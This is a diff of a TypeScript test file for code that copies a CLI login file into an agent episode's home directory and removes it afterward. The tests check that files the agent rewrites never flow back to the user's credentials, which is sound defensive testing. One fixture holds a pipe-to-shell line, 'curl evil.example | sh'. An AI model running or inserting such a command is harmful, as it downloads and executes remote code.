@@ -1,5 +1,5 @@
-// Copying a CLI's subscription login into an episode's home, and what comes back out of it: only a
-// refreshed login of the same shape, and only onto the file it was copied from.
+// Copying a CLI's subscription login into an episode's home, and removing it after: nothing the
+// agent could have written goes back to the user's files.
 import { lstat, mkdir, mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -52,75 +52,39 @@ describe('installLogins', () => {
 });
 
 describe('removeLogins', () => {
-  async function installed() {
+  it('removes the copy; the user file is as it was', async () => {
     await writeFile(login.from, LOGIN);
-    return installLogins([login], {});
-  }
-
-  it('removes the copy; an unchanged login leaves the user file as it was', async () => {
-    const copies = await installed();
-    await removeLogins(copies);
-    await expect(stat(login.to)).rejects.toThrow(/ENOENT/);
-    expect(await readFile(login.from, 'utf8')).toBe(LOGIN);
-  });
-
-  it('carries a refreshed login of the same shape back to the user file (its refresh token was rotated)', async () => {
-    const copies = await installed();
-    await writeFile(login.to, REFRESHED);
-    await removeLogins(copies);
-    expect(await readFile(login.from, 'utf8')).toBe(REFRESHED);
-    expect((await stat(login.from)).mode & 0o777).toBe(0o600);
-    await expect(stat(login.to)).rejects.toThrow(/ENOENT/);
-  });
-
-  it('writes through a symlinked user file to its target', async () => {
-    const target = join(tmp, 'dotfiles-auth.json');
-    await writeFile(target, LOGIN);
-    await symlink(target, login.from);
     const copies = await installLogins([login], {});
-    await writeFile(login.to, REFRESHED);
     await removeLogins(copies);
-    expect((await lstat(login.from)).isSymbolicLink()).toBe(true);
-    expect(await readFile(target, 'utf8')).toBe(REFRESHED);
+    await expect(lstat(login.to)).rejects.toThrow(/ENOENT/);
+    expect(await readFile(login.from, 'utf8')).toBe(LOGIN);
   });
 
   it.each([
-    ['other fields', `${JSON.stringify({ tokens: { access: 'x' }, evil: 'yes' })}\n`],
-    ['a field of another kind', `${JSON.stringify({ tokens: 'x', last_refresh: '2026-12-01' })}\n`],
-    ['not JSON', '#!/bin/sh\ncurl evil.example | sh\n'],
-    ['a JSON array', '[1, 2]\n'],
-  ])('never carries back a file the agent rewrote with %s', async (_what, text) => {
-    const copies = await installed();
+    ['refreshed by the CLI', REFRESHED],
+    [
+      "another account's login of the same shape",
+      `${JSON.stringify({ tokens: { access: 'x', refresh: 'y' }, last_refresh: '2026-12-01' })}\n`,
+    ],
+    ['a script', '#!/bin/sh\ncurl evil.example | sh\n'],
+  ])('never carries the copy back to the user file, rewritten as %s (the agent can write it)', async (_what, text) => {
+    await writeFile(login.from, LOGIN);
+    const copies = await installLogins([login], {});
     await writeFile(login.to, text);
     await removeLogins(copies);
     expect(await readFile(login.from, 'utf8')).toBe(LOGIN);
+    await expect(lstat(login.to)).rejects.toThrow(/ENOENT/);
   });
 
-  it('never carries back through a symlink the agent put in its place', async () => {
-    const copies = await installed();
+  it('removes a symlink the agent put in its place, not what it points at', async () => {
+    await writeFile(login.from, LOGIN);
+    const copies = await installLogins([login], {});
     const elsewhere = join(tmp, 'elsewhere.json');
     await writeFile(elsewhere, REFRESHED);
     await rm(login.to);
     await symlink(elsewhere, login.to);
     await removeLogins(copies);
-    expect(await readFile(login.from, 'utf8')).toBe(LOGIN);
     expect(await readFile(elsewhere, 'utf8')).toBe(REFRESHED);
     await expect(lstat(login.to)).rejects.toThrow(/ENOENT/);
-  });
-
-  it('keeps a user file that changed meanwhile (the user logged in again, or another episode refreshed first)', async () => {
-    const copies = await installed();
-    const relogin = `${JSON.stringify({ tokens: { access: 'u', refresh: 'u' }, last_refresh: '2026-12-02' })}\n`;
-    await writeFile(login.from, relogin);
-    await writeFile(login.to, REFRESHED);
-    await removeLogins(copies);
-    expect(await readFile(login.from, 'utf8')).toBe(relogin);
-  });
-
-  it('writes nothing back for a login that came from a variable', async () => {
-    const copies = await installLogins([login], { TEST_AUTH_JSON: LOGIN });
-    await writeFile(login.to, REFRESHED);
-    await removeLogins(copies);
-    await expect(stat(login.from)).rejects.toThrow(/ENOENT/);
   });
 });
